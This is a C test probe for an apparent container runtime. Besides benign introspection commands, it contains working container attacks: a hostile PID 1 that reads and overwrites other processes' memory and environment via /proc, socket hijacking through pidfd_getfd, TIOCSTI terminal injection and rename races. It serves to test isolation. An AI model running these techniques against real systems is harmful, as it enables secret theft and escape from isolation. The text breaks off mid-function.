/* probe.c - a small static program that runs as a container's process in the
 * tests and reports what it sees, as one JSON object on stdout.
 *
 *   probe info                 identity, namespaces, capabilities, fds, limits...
 *   probe exit N               exit with status N
 *   probe raise SIG            kill itself with SIG (default action)
 *   probe sleep SECONDS        sleep, then exit 0
 *   probe write PATH           try to create/write PATH: {"errno": E}
 *   probe mkdir PATH           try mkdir: {"errno": E}
 *   probe kill PID SIG         try kill(PID, SIG): {"errno": E}
 *   probe sethostname NAME     try sethostname: {"errno": E}
 *   probe forks N              fork N children that sleep; {"forked": k, "errno": E}
 *   probe alloc MIB            touch MIB MiB of memory, then exit 0
 *   probe spin SECONDS         busy loop
 *   probe connect IP PORT      try a TCP connect: {"errno": E}
 *   probe ifaces               network interfaces and their flags
 *   probe shm_create KEY       create a SysV shared memory segment: {"id": I, "errno": E}
 *   probe shm_find KEY         look one up: {"id": I, "errno": E}
 *   probe mq_create NAME       create a POSIX message queue (needs /dev/mqueue)
 *   probe mq_find NAME
 *   probe stat PATH            {"errno", "uid", "gid", "mode"}
 *   probe ps                   the pids visible in /proc
 *   probe cat PATH             the file's text as a JSON string
 *   probe capcheck             try one call per capability: {"CAP": errno, ...}
 *
 * Attacks (tests/test_attacks.py); each reports what it got:
 *   probe snoop SECONDS HEXMARKER [VICTIM [write]]
 *                              a hostile PID 1: for every other process that shows
 *                              up, /proc/N/mem and environ are opened as soon as
 *                              the kernel allows it, the process is stopped
 *                              (SIGSTOP), its cmdline, environ, exe, fds and
 *                              writable memory are searched for MARKER (given
 *                              hex-encoded, so that the container's own argv does
 *                              not hold it); a "found: ..." line per leak, a JSON
 *                              summary at the end (on SIGTERM, stdin closed or after
 *                              SECONDS).  With VICTIM, a message "the new process is
 *                              VICTIM" goes to the peer of each socket it holds (0:
 *                              none); with write, each "TARGET:MARKER" found in its
 *                              memory becomes "PWNED!:MARKER"
 *   probe freeze SECONDS       SIGSTOP every other process that shows up, SIGCONT
 *                              them all at the end
 *   probe swap A B SECONDS     exchange the names A and B (RENAME_EXCHANGE) in a loop
 *   probe procsys              each procfs mounted: read-only?, core_pattern and
 *                              sysrq-trigger writable?, kcore/keys/timer_list masked?
 *   probe tiocsti STRING       TIOCSTI each char on fd 0 and on /dev/tty; TIOCLINUX
 *   probe syscalls             keyctl, add_key, bpf, mount (tmpfs on /tmp),
 *                              unshare(CLONE_NEWUSER), ptrace(PID 1): errno of each
 *                              (0: it worked)
 *   probe keyring DESC         the session keyring's id; a "user" key DESC found and
 *                              read in the session keyring?  in the user keyring?
 *   probe exe PATH             open PATH read-only: link, dev, ino; reopened for writing?
 *   probe hold-exe FD SECONDS RESULT
 *                              reopen fd FD for writing once nothing runs it (ETXTBSY
 *                              gone), write a marker at offset 0; JSON to RESULT too
 *   probe forge-exit STATUS    take PID 1's sockets (pidfd_getfd), send "the command
 *                              exited with wait status STATUS" to their peer
 *   probe connect_unix PATH    connect to a unix socket: {"errno": E}
 *   probe devrw PATH b|c MAJ MIN DATA
 *                              mknod, read 16 bytes, write DATA at offset 0
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* a JSON string; bytes >= 0x80 pass through (the tests use valid UTF-8) */
static void jstr(const char *s)
{
    putchar('"');
    for (; *s; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '"' || c == '\\')
            printf("\\%c", c);
        else if (c == '\n')
            printf("\\n");
        else if (c == '\t')
            printf("\\t");
        else if (c < 0x20 || c == 0x7f)
            printf("\\u%04x", c);
        else
            putchar(c);
    }
    putchar('"');
}

static void jfile(const char *path)
{
    char buf[65536];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n, total = 0;
    if (fd < 0) {
        printf("null");
        return;
    }
    while ((n = read(fd, buf + total, sizeof(buf) - 1 - (size_t)total)) > 0)
        total += n;
    close(fd);
    buf[total] = '\0';
    jstr(buf);
}

static void result_errno(int ok) { printf("{\"errno\": %d}\n", ok ? 0 : errno); }

static void info(void)
{
    static const char *kinds[] = {"user", "pid", "mnt", "net", "uts", "ipc", "cgroup", "time"};
    static const struct {
        const char *name;
        int res;
    } limits[] = {{"NOFILE", RLIMIT_NOFILE}, {"NPROC", RLIMIT_NPROC},    {"CORE", RLIMIT_CORE},
                  {"STACK", RLIMIT_STACK},   {"AS", RLIMIT_AS},          {"FSIZE", RLIMIT_FSIZE},
                  {"CPU", RLIMIT_CPU},       {"MEMLOCK", RLIMIT_MEMLOCK}};
    struct utsname u;
    char cwd[4096], link[256], path[64];
    gid_t groups[256];
    int n, i, first;
    mode_t mask = umask(0);
    umask(mask);
    uname(&u);
    printf("{\"pid\": %d, \"ppid\": %d, \"uid\": %u, \"gid\": %u, \"euid\": %u, \"egid\": %u",
           getpid(), getppid(), getuid(), getgid(), geteuid(), getegid());
    n = getgroups(256, groups);
    printf(", \"groups\": [");
    for (i = 0; i < n; i++)
        printf("%s%u", i ? ", " : "", groups[i]);
    printf("], \"hostname\": ");
    jstr(u.nodename);
    printf(", \"domainname\": ");
    jstr(u.domainname);
    printf(", \"cwd\": ");
    jstr(getcwd(cwd, sizeof(cwd)) ? cwd : "");
    printf(", \"umask\": %u, \"ns\": {", (unsigned)mask);
    for (i = 0; i < 8; i++) {
        ssize_t len;
        snprintf(path, sizeof(path), "/proc/self/ns/%s", kinds[i]);
        len = readlink(path, link, sizeof(link) - 1);
        link[len > 0 ? len : 0] = '\0';
        printf("%s\"%s\": ", i ? ", " : "", kinds[i]);
        jstr(link);
    }
    printf("}, \"fds\": [");
    first = 1;
    for (i = 0; i < 4096; i++)
        if (fcntl(i, F_GETFD) >= 0) {
            printf("%s%d", first ? "" : ", ", i);
            first = 0;
        }
    printf("], \"rlimits\": {");
    for (i = 0; i < (int)(sizeof(limits) / sizeof(limits[0])); i++) {
        struct rlimit r;
        getrlimit(limits[i].res, &r);
        printf("%s\"%s\": [%lld, %lld]", i ? ", " : "", limits[i].name,
               r.rlim_cur == RLIM_INFINITY ? -1LL : (long long)r.rlim_cur,
               r.rlim_max == RLIM_INFINITY ? -1LL : (long long)r.rlim_max);
    }
    printf("}, \"env\": [");
    for (i = 0; environ[i]; i++) {
        printf("%s", i ? ", " : "");
        jstr(environ[i]);
    }
    printf("], \"no_new_privs\": %d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    printf(", \"status\": ");
    jfile("/proc/self/status");
    printf(", \"uid_map\": ");
    jfile("/proc/self/uid_map");
    printf(", \"gid_map\": ");
    jfile("/proc/self/gid_map");
    printf(", \"setgroups\": ");
    jfile("/proc/self/setgroups");
    printf(", \"mountinfo\": ");
    jfile("/proc/self/mountinfo");
    printf(", \"oom_score_adj\": ");
    jfile("/proc/self/oom_score_adj");
    printf(", \"cgroup\": ");
    jfile("/proc/self/cgroup");
    printf("}\n");
}

static void ifaces(void)
{
    struct if_nameindex *ifs = if_nameindex(), *p;
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    printf("{\"ifaces\": {");
    for (p = ifs; p && p->if_index; p++) {
        struct ifreq ifr;
        memset(&ifr, 0, sizeof(ifr));
        snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", p->if_name);
        ioctl(s, SIOCGIFFLAGS, &ifr);
        printf("%s\"%s\": {\"up\": %s}", p == ifs ? "" : ", ", p->if_name,
               (ifr.ifr_flags & IFF_UP) ? "true" : "false");
    }
    printf("}}\n");
}

static void ps(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int first = 1;
    printf("{\"pids\": [");
    while (d && (e = readdir(d))) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end == '\0' && pid > 0) {
            printf("%s%ld", first ? "" : ", ", pid);
            first = 0;
        }
    }
    if (d)
        closedir(d);
    printf("]}\n");
}

/* one call that needs each capability (0: it worked) */
static void capcheck(void)
{
    int fd, err;
    pid_t pid;
    int status = 0;
    printf("{");
    /* SYS_ADMIN: sethostname (the container has its own uts namespace) */
    printf("\"SYS_ADMIN\": %d", sethostname("capcheck", 8) == 0 ? 0 : errno);
    /* CHOWN: give a file of ours to another user */
    fd = open("/tmp/.capcheck", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    err = fd < 0 ? errno : (fchown(fd, 4321, 4321) == 0 ? 0 : errno);
    printf(", \"CHOWN\": %d", err);
    if (fd >= 0)
        close(fd);
    unlink("/tmp/.capcheck");
    /* NET_RAW: a raw socket */
    fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    printf(", \"NET_RAW\": %d", fd >= 0 ? 0 : errno);
    if (fd >= 0)
        close(fd);
    /* MKNOD: a character device node */
    err = mknod("/tmp/.capcheck-node", S_IFCHR | 0600, makedev(1, 3)) == 0 ? 0 : errno;
    printf(", \"MKNOD\": %d", err);
    unlink("/tmp/.capcheck-node");
    /* SYS_CHROOT */
    printf(", \"SYS_CHROOT\": %d", chroot("/") == 0 ? 0 : errno);
    /* SETUID: in a child, since it changes who we are */
    pid = fork();
    if (pid == 0)
        _exit(setresuid(4321, 4321, 4321) == 0 ? 0 : errno);
    waitpid(pid, &status, 0);
    printf(", \"SETUID\": %d", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
    /* SETGID */
    pid = fork();
    if (pid == 0)
        _exit(setresgid(4321, 4321, 4321) == 0 ? 0 : errno);
    waitpid(pid, &status, 0);
    printf(", \"SETGID\": %d", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
    /* DAC_OVERRIDE: write a file whose mode forbids it */
    fd = open("/tmp/.capcheck-dac", O_CREAT | O_WRONLY | O_CLOEXEC, 0000);
    if (fd >= 0)
        close(fd);
    fd = open("/tmp/.capcheck-dac", O_WRONLY | O_CLOEXEC);
    printf(", \"DAC_OVERRIDE\": %d", fd >= 0 ? 0 : errno);
    if (fd >= 0)
        close(fd);
    unlink("/tmp/.capcheck-dac");
    printf("}\n");
}

/* ---- attacks (tests/test_attacks.py) ------------------------------------------- */

static volatile sig_atomic_t stop_flag;

static void on_stop_signal(int sig)
{
    (void)sig;
    stop_flag = 1;
}

/* stop when SIGTERM/SIGINT arrives, stdin is closed or readable, or at the deadline */
static int should_stop(time_t deadline)
{
    struct pollfd p = {0, POLLIN, 0};
    if (stop_flag || time(NULL) >= deadline)
        return 1;
    return poll(&p, 1, 0) > 0 && (p.revents & (POLLIN | POLLHUP | POLLERR | POLLNVAL));
}

static void watch_stop_signals(void)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_stop_signal;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
}

static ssize_t slurp(const char *path, char *buf, size_t cap)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n, total = 0;
    if (fd < 0)
        return -errno;
    while ((size_t)total < cap && (n = read(fd, buf + total, cap - (size_t)total)) > 0)
        total += n;
    close(fd);
    return total;
}

static char proc_state(pid_t pid)
{
    char path[64], buf[512], *p;
    ssize_t n;
    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    n = slurp(path, buf, sizeof(buf) - 1);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    p = strrchr(buf, ')');
    return p && p[1] ? p[2] : 0;
}

enum { F_CMDLINE, F_ENVIRON, F_MEM, F_MEM_WRITE, F_EXE, F_FD, F_FD_CONTENT, F_HIJACK, F_NKINDS };
static const char *finding_names[] = {"cmdline", "environ", "mem",        "mem_write",
                                      "exe",     "fd",      "fd_content", "hijack"};

struct snoop {
    const char *marker;
    pid_t victim;
    int write; /* overwrite "TARGET:" + marker with "PWNED!:" + marker */
    int nfound;
    int counts[F_NKINDS];
    char *scan; /* a buffer for /proc/N/mem */
};

static void found(struct snoop *s, int kind, pid_t pid, const char *detail)
{
    s->counts[kind]++;
    if (s->nfound++ < 200) {
        printf("found: %s pid %d ", finding_names[kind], pid);
        jstr(detail);
        printf("\n");
        fflush(stdout);
    }
}

/* is `path` (a link target) the same file inside this container as `fd`? */
static int same_inside(const char *path, int fd)
{
    struct stat a, b;
    if (path[0] != '/' || stat(path, &a) < 0 || fstat(fd, &b) < 0)
        return 0;
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

/* overwrite each "TARGET:<marker>" in [a, a+n) of pid's memory with "PWNED!:<marker>" */
static void snoop_write(struct snoop *s, pid_t pid, int fd, unsigned long a, size_t n)
{
    char want[512], detail[128];
    const char *p = s->scan, *end = s->scan + n;
    size_t wl;
    snprintf(want, sizeof(want), "TARGET:%s", s->marker);
    wl = strlen(want);
    while (p < end && (p = memmem(p, (size_t)(end - p), want, wl))) {
        unsigned long at = a + (unsigned long)(p - s->scan);
        if (pwrite(fd, "PWNED!:", 7, (off_t)at) == 7) {
            snprintf(detail, sizeof(detail), "wrote into its memory at %#lx", at);
            found(s, F_MEM_WRITE, pid, detail);
        }
        p += wl;
    }
}

/* everything a hostile PID 1 can take from process `pid`; 1 when it got in */
static int snoop_reads(struct snoop *s, pid_t pid, int memfd, int envfd, int mapsfd)
{
    char path[96], link[4096], buf[65536], detail[4400];
    ssize_t n;
    int fd, got_in = 0;
    DIR *d;
    struct dirent *e;
    FILE *maps;

    n = envfd >= 0 ? pread(envfd, buf, sizeof(buf), 0) : -1;
    if (n >= 0)
        got_in = 1;
    if (n > 0 && memmem(buf, (size_t)n, s->marker, strlen(s->marker)))
        found(s, F_ENVIRON, pid, "the marker is in its environ");

    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    n = readlink(path, link, sizeof(link) - 1);
    if (n > 0) {
        link[n] = '\0';
        fd = open(path, O_PATH | O_CLOEXEC);
        /* a sealed memfd copy is not a host file */
        if (fd >= 0 && strncmp(link, "/memfd:", 7) && !same_inside(link, fd)) {
            snprintf(detail, sizeof(detail), "exe -> %s (not this container's file)", link);
            found(s, F_EXE, pid, detail);
        }
        if (fd >= 0)
            close(fd);
    }

    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    d = opendir(path);
    while (d && (e = readdir(d))) {
        char fdpath[128];
        int num = atoi(e->d_name);
        if (e->d_name[0] == '.')
            continue;
        snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%d", pid, num);
        n = readlink(fdpath, link, sizeof(link) - 1);
        if (n <= 0)
            continue;
        link[n] = '\0';
        got_in = 1;
        /* (the sync socket of a pid namespace's init is forge-exit's business) */
        if (num >= 3 && !(pid == 1 && !strncmp(link, "socket:", 7))) {
            snprintf(detail, sizeof(detail), "fd %d -> %s", num, link);
            found(s, F_FD, pid, detail);
        }
        if (link[0] == '/') {
            fd = open(fdpath, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0) {
                n = read(fd, buf, sizeof(buf));
                if (n > 0 && memmem(buf, (size_t)n, s->marker, strlen(s->marker))) {
                    snprintf(detail, sizeof(detail), "fd %d (%s) has the marker", num, link);
                    found(s, F_FD_CONTENT, pid, detail);
                }
                close(fd);
            }
        }
        if (s->victim > 0 && !strncmp(link, "socket:", 7)) {
            /* take the socket and tell its peer that the victim is the new process */
            int pfd = (int)syscall(SYS_pidfd_open, pid, 0), sock = -1;
            if (pfd >= 0) {
                sock = (int)syscall(438 /* pidfd_getfd */, pfd, num, 0);
                close(pfd);
            }
            if (sock >= 0) {
                struct {
                    unsigned int type;
                    int stage, op, err;
                    long long val;
                } m = {3 /* NSB_MSG_PID */, 0, 0, 0, s->victim};
                if (send(sock, &m, sizeof(m), MSG_NOSIGNAL) == (ssize_t)sizeof(m)) {
                    snprintf(detail, sizeof(detail), "fd %d: sent pid %d to its peer", num,
                             (int)s->victim);
                    found(s, F_HIJACK, pid, detail);
                }
                close(sock);
            }
        }
    }
    if (d)
        closedir(d);

    maps = mapsfd >= 0 ? fdopen(mapsfd, "r") : NULL;
    fd = memfd;
    if (fd >= 0)
        got_in = 1;
    while (maps && fd >= 0 && fgets(buf, sizeof(buf), maps)) {
        unsigned long lo, hi, a;
        char perms[8];
        size_t budget = 256UL << 20, ml = strlen(s->marker);
        if (sscanf(buf, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w')
            continue;
        for (a = lo; a < hi && budget > 0; a += (1UL << 20) - ml) {
            size_t want = hi - a < (1UL << 20) ? hi - a : (1UL << 20);
            n = pread(fd, s->scan, want, (off_t)a);
            if (n <= 0)
                break;
            budget -= (size_t)n;
            if (memmem(s->scan, (size_t)n, s->marker, ml)) {
                snprintf(detail, sizeof(detail), "the marker is in its memory near %#lx", a);
                found(s, F_MEM, pid, detail);
                if (s->write)
                    snoop_write(s, pid, fd, a, (size_t)n);
                a = hi; /* one report per mapping */
                break;
            }
        }
    }
    if (maps)
        fclose(maps);
    return got_in;
}

/* Open /proc/PID/mem (and environ) as soon as the kernel allows it, that is once
 * the process's permitted capabilities are within ours: such an fd keeps the
 * process's memory (its mm, at open) even after it execs.  Then stop it, read
 * everything, let it go. */
static void snoop_pid(struct snoop *s, pid_t pid)
{
    char path[64], envpath[64], mapspath[64], buf[65536];
    int memfd = -1, envfd = -1, mapsfd = -1, spin;
    long i;
    ssize_t n;

    snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
    n = slurp(path, buf, sizeof(buf));
    if (n > 0 && memmem(buf, (size_t)n, s->marker, strlen(s->marker)))
        found(s, F_CMDLINE, pid, "the marker is in its command line");
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    snprintf(envpath, sizeof(envpath), "/proc/%d/environ", pid);
    for (i = 0; i < 4000000; i++) {
        memfd = open(path, (s->write ? O_RDWR : O_RDONLY) | O_CLOEXEC);
        if (memfd >= 0)
            break;
        if (errno == ENOENT || errno == ESRCH)
            return;
        if (i % 4096 == 4095 && kill(pid, 0) < 0)
            return;
    }
    if (memfd < 0)
        return;
    if (pid != 1) /* a pid namespace's init ignores it */
        kill(pid, SIGSTOP);
    /* maps and environ fds keep the mm of their open too: the layout of the
     * memory that memfd reads, even if the process has exec'd since */
    snprintf(mapspath, sizeof(mapspath), "/proc/%d/maps", pid);
    mapsfd = open(mapspath, O_RDONLY | O_CLOEXEC);
    envfd = open(envpath, O_RDONLY | O_CLOEXEC);
    for (spin = 0; pid != 1 && spin < 10000; spin++) {
        char st = proc_state(pid);
        if (st == 'T' || st == 't' || st == 0 || st == 'Z' || st == 'X')
            break;
    }
    snoop_reads(s, pid, memfd, envfd, mapsfd);
    kill(pid, SIGCONT);
    close(memfd);
    if (envfd >= 0)
        close(envfd);
}

static void snoop(int seconds, const char *marker, pid_t victim, int write)
{
    struct snoop s;
    time_t deadline = time(NULL) + seconds;
    static pid_t done[65536];
    int ndone = 0, i, iter = 0, attacked = 0;
    long last = -1;

    static char plain[256];
    size_t j;
    memset(&s, 0, sizeof(s));
    /* the marker comes hex-encoded: the plain text is then nowhere in this
     * container (not in our argv, nor in the init's) */
    for (j = 0; j < sizeof(plain) - 1 && marker[2 * j] && marker[2 * j + 1]; j++) {
        char hex[3] = {marker[2 * j], marker[2 * j + 1], 0};
        plain[j] = (char)strtol(hex, NULL, 16);
    }
    plain[j] = '\0';
    s.marker = plain;
    s.victim = victim;
    s.write = write;
    s.scan = malloc(1UL << 20);
    watch_stop_signals();
    while (!should_stop(deadline)) {
        char buf[32];
        ssize_t n = slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf) - 1);
        long cur = -1;
        pid_t cand[64];
        int ncand = 0, k;
        if (n > 0) {
            buf[n] = '\0';
            cur = atol(buf);
        }
        if (cur != last && cur > 0) {
            long from = last < 0 || cur - last > 32 ? cur - 8 : last + 1;
            for (; from <= cur && ncand < 64; from++)
                if (from > 0)
                    cand[ncand++] = (pid_t)from;
            last = cur;
        }
        if (iter++ % 64 == 0) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d)) && ncand < 64) {
                char *end;
                long pid = strtol(e->d_name, &end, 10);
                if (*end == '\0' && pid > 0)
                    cand[ncand++] = (pid_t)pid;
            }
            if (d)
                closedir(d);
        }
        for (k = 0; k < ncand; k++) {
            pid_t pid = cand[k];
            int seen = 0;
            if (pid == getpid())
                continue;
            for (i = 0; i < ndone && !seen; i++)
                seen = done[i] == pid;
            if (seen)
                continue;
            if (kill(pid, 0) < 0)
                continue;
            if (ndone < 65536)
                done[ndone++] = pid;
            attacked++;
            snoop_pid(&s, pid);
        }
        if (iter == 1) {
            /* the processes already there are taken first, then the caller hears
             * that the watch is on */
            printf("{\"snooping\": %d}\n", getpid());
            fflush(stdout);
        }
        sched_yield();
    }
    printf("{\"attacked\": %d, \"found\": %d, \"kinds\": {", attacked, s.nfound);
    for (i = 0; i < F_NKINDS; i++)
        printf("%s\"%s\": %d", i ? ", " : "", finding_names[i], s.counts[i]);
    printf("}}\n");
}

/* stop (SIGSTOP) every other process that shows up, and keep it stopped until
 * the end (then SIGCONT them all) */
static void freeze(int seconds)
{
    time_t deadline = time(NULL) + seconds;
    static pid_t stopped[4096];
    int n = 0, i, iter = 0;
    watch_stop_signals();
    printf("{\"freezing\": %d}\n", getpid());
    fflush(stdout);
    while (!should_stop(deadline)) {
        pid_t cand[64];
        int ncand = 0, k;
        char buf[32];
        ssize_t len = slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf) - 1);
        if (len > 0) {
            long cur, from;
            buf[len] = '\0';
            cur = atol(buf);
            for (from = cur - 4; from <= cur; from++)
                if (from > 1)
                    cand[ncand++] = (pid_t)from;
        }
        if (iter++ % 64 == 0) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d)) && ncand < 64) {
                char *end;
                long pid = strtol(e->d_name, &end, 10);
                if (*end == '\0' && pid > 1)
                    cand[ncand++] = (pid_t)pid;
            }
            if (d)
                closedir(d);
        }
        for (k = 0; k < ncand; k++) {
            int seen = 0;
            if (cand[k] == getpid())
                continue;
            for (i = 0; i < n && !seen; i++)
                seen = stopped[i] == cand[k];
            if (!seen && kill(cand[k], SIGSTOP) == 0 && n < 4096)
                stopped[n++] = cand[k];
        }
    }
    for (i = 0; i < n; i++)
        kill(stopped[i], SIGCONT);
    printf("{\"stopped\": %d}\n", n);
}

/* swap two names with RENAME_EXCHANGE as fast as possible */
static void swap_paths(const char *a, const char *b, int seconds)
{
    time_t deadline = time(NULL) + seconds;
    long swaps = 0, err = 0;
    watch_stop_signals();
    printf("{\"swapping\": %d}\n", getpid());
    fflush(stdout);
    while (!should_stop(deadline)) {
        int k;
        for (k = 0; k < 256; k++) {
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
                swaps++;
            else
                err = errno;
        }
    }
    printf("{\"swaps\": %ld, \"errno\": %ld}\n", swaps, err);
}

static int open_errno(const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

/* is `path` masked: a character device (/dev/null bound over it), an empty
 * directory, or a file that reads as nothing */
static int masked(const char *path)
{
    struct stat st;
    char buf[256];
    ssize_t n;
    if (stat(path, &st) < 0)
        return errno == ENOENT ? 1 : 0;
    if (S_ISCHR(st.st_mode))
        return 1;
    if (S_ISDIR(st.st_mode)) {
        DIR *d = opendir(path);
        struct dirent *e;
        int entries = 0;
        while (d && (e = readdir(d)))
            entries += e->d_name[0] != '.';
        if (d)
            closedir(d);
        return entries == 0;
    }
    n = slurp(path, buf, sizeof(buf));
    return n <= 0;
}

/* every procfs mounted in this container (whole: the mount's root is the
 * filesystem's; the read-only binds of its files and directories inside it are
 * part of its protection, not procfs of their own): read-only?, writable
 * sysctls, masks */
static void procsys(void)
{
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char line[4096];
    int first = 1, nproc = 0;
    printf("{\"procs\": [");
    while (f && fgets(line, sizeof(line), f)) {
        char root[2048], mp[2048], opts[512], fstype[64], path[2200];
        char *dash = strstr(line, " - ");
        if (!dash || sscanf(line, "%*s %*s %*s %2047s %2047s %511s", root, mp, opts) != 3 ||
            sscanf(dash + 3, "%63s", fstype) != 1 || strcmp(fstype, "proc") != 0 ||
            strcmp(root, "/") != 0)
            continue;
        nproc++;
        printf("%s{\"mountpoint\": ", first ? "" : ", ");
        jstr(mp);
        first = 0;
        printf(", \"ro\": %s",
               !strncmp(opts, "ro", 2) && (opts[2] == ',' || !opts[2]) ? "true" : "false");
        snprintf(path, sizeof(path), "%s/sys/kernel/core_pattern", mp);
        printf(", \"core_pattern_w\": %d", open_errno(path, O_WRONLY));
        snprintf(path, sizeof(path), "%s/sysrq-trigger", mp);
        printf(", \"sysrq_w\": %d", open_errno(path, O_WRONLY));
        snprintf(path, sizeof(path), "%s/kcore", mp);
        printf(", \"kcore_masked\": %s", masked(path) ? "true" : "false");
        snprintf(path, sizeof(path), "%s/keys", mp);
        printf(", \"keys_masked\": %s", masked(path) ? "true" : "false");
        snprintf(path, sizeof(path), "%s/timer_list", mp);
        printf(", \"timer_list_masked\": %s}", masked(path) ? "true" : "false");
    }
    if (f)
        fclose(f);
    printf("], \"count\": %d}\n", nproc);
}

/* push each character of s into the terminal's input with TIOCSTI: on fd 0, and
 * on /dev/tty; TIOCLINUX too */
static void tiocsti(const char *s)
{
    int fd, err0 = 0, errtty = 0, errlinux, ok0 = 0, oktty = 0, tty_open;
    const char *p;
    char sub = 3; /* TIOCL_GETSHIFTSTATE-ish: any subcode shows whether it is allowed */
    for (p = s; *p; p++) {
        if (ioctl(0, TIOCSTI, p) == 0)
            ok0++;
        else
            err0 = errno;
    }
    fd = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
    tty_open = fd >= 0 ? 0 : errno;
    for (p = s; fd >= 0 && *p; p++) {
        if (ioctl(fd, TIOCSTI, p) == 0)
            oktty++;
        else
            errtty = errno;
    }
    errlinux = ioctl(fd >= 0 ? fd : 0, TIOCLINUX, &sub) == 0 ? 0 : errno;
    if (fd >= 0)
        close(fd);
    printf("{\"stdin_pushed\": %d, \"stdin_errno\": %d, \"tty_open_errno\": %d, "
           "\"tty_pushed\": %d, \"tty_errno\": %d, \"tioclinux_errno\": %d, \"sid\": %d, "
           "\"pgid\": %d}\n",
           ok0, err0, tty_open, oktty, errtty, errlinux, (int)getsid(0), (int)getpgid(0));
}

/* calls a default seccomp profile refuses: their errno (0: it worked) */
static void syscalls(void)
{
    long r;
    pid_t pid;
    int status = 0;
    printf("{");
    r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* @s */, 0);
    printf("\"keyctl\": %d", r < 0 ? errno : 0);
    r = syscall(SYS_add_key, "user", "pynsbind-probe", "x", 1, -3);
    printf(", \"add_key\": %d", r < 0 ? errno : 0);
    {
        /* BPF_PROG_LOAD of garbage: EPERM if refused, EINVAL/E2BIG etc. if tried */
        union {
            unsigned long long u[16];
        } attr;
        memset(&attr, 0, sizeof(attr));
        attr.u[0] = 1; /* prog_type socket filter, insn_cnt 0 */
        r = syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, &attr, sizeof(attr));
        printf(", \"bpf\": %d", r < 0 ? errno : 0);
    }
    r = mount("none", "/tmp", "tmpfs", 0, NULL);
    printf(", \"mount\": %d", r < 0 ? errno : 0);
    if (r == 0)
        umount2("/tmp", MNT_DETACH);
    pid = fork();
    if (pid == 0)
        _exit(unshare(CLONE_NEWUSER) == 0 ? 0 : errno);
    waitpid(pid, &status, 0);
    printf(", \"unshare_user\": %d", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
    r = syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, 1, 0, 0);
    printf(", \"ptrace_pid1\": %d", r < 0 ? errno : 0);
    if (r == 0)
        syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, 1, 0, 0);
    printf("}\n");
}

/* the session keyring: its id, and whether a key called desc is found and read */
static void keyring(const char *desc)
{
    long sid = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* @s */, 0);
    int sid_err = sid < 0 ? errno : 0;
    long uid_ring = syscall(SYS_keyctl, 0, -4 /* @u */, 0);
    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", desc, 0);
    int key_err = key < 0 ? errno : 0;
    long ukey = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -4, "user", desc, 0);
    int ukey_err = ukey < 0 ? errno : 0;
    char udata[256] = "";
    long un = -1;
    int uread_err = 0;
    char data[256] = "";
    long n = -1;
    int read_err = 0;
    if (key < 0) { /* in the user keyring? by id, through the search of all */
        key = syscall(SYS_request_key, "user", desc, NULL, 0);
        if (key >= 0)
            key_err = 0;
    }
    if (key >= 0) {
        n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, data, sizeof(data) - 1);
        if (n < 0)
            read_err = errno;
        else
            data[n < (long)sizeof(data) ? n : (long)sizeof(data) - 1] = '\0';
    }
    if (ukey >= 0) {
        un = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, ukey, udata, sizeof(udata) - 1);
        if (un >= 0)
            udata[un < (long)sizeof(udata) ? un : (long)sizeof(udata) - 1] = '\0';
        else
            uread_err = errno;
    }
